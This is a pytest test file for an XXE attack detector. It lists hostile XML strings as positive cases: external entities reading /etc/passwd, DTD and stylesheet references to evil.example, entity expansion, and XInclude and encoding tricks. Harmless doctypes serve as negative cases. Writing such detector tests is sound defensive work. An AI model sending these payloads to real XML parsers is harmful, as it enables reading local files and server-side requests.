import pytest
from asking import asking
from lookalikes import AMBIGUOUS, PLAIN, generated

from seawall.systems.threats.detectors.xxe import DETECTOR

ask = asking(DETECTOR)

ATTACKS = (
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo/>',
    '<!DOCTYPE r [<!ENTITY % a SYSTEM "http://x/y.dtd">%a;]>',
    '<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;">]>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    '<!doctype svg [<!entity x public "x" "http://x">]>',
    '<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>',
    "<xsl:value-of select=\"document('file:///etc/passwd')\"/>",
    '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-ENTITY',
    "<?xml version=\"1.0\" encoding='cp037'?><a/>",
    '<?xml version="1.0" encoding="IBM1047"?><a/>',
)
HONEST = (
    "<!DOCTYPE html>",
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html>',
    '<?xml version="1.0"?><note><to>x</to></note>',
    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
    '<!DOCTYPE html SYSTEM "about:legacy-compat">',
    "entity",
    "document(s)",
    "include href",
    '<?xml version="1.0" encoding="UTF-8"?><a/>',
    '<?xml version="1.0" encoding="ISO-8859-1" standalone="no"?><a/>',
    '<?xml version="1.0" encoding="utf-16"?><a/>',
)


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_found(text):
    assert ask(text)[1] >= 0.85


@pytest.mark.parametrize("text", HONEST)
def test_what_only_looks_like_one_is_let_through(text):
    assert ask(text)[1] < 0.5


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (
            '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
            "xxe-external",
        ),
        ('<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;">]>', "xxe-expansion"),
        (
            '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
            "xxe-include",
        ),
        ('<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo/>', "xxe-doctype"),
    ],
)
def test_each_kind_of_attack_has_a_rule(text, rule):
    assert ask(text)[0] == rule


def test_honest_values_are_not_even_ambiguous():
    assert [text for text in PLAIN if ask(text)[1] >= 0.5] == []


def test_pasted_statements_stay_below_sure():
    assert [text for text in AMBIGUOUS if ask(text)[1] >= 0.9] == []


def test_generated_honest_values_are_not_suspected():
    suspected = [text for text in generated(1500, seed=4) if ask(text)[1] >= 0.7]
    assert suspected == []


def test_a_document_type_that_refers_to_a_parameter_is_found():
    assert ask("<!DOCTYPE a [ %remote; ]><a/>")[1] >= 0.8
    assert ask("<!DOCTYPE a [<!ELEMENT a (b)>]><a/>")[1] < 0.7
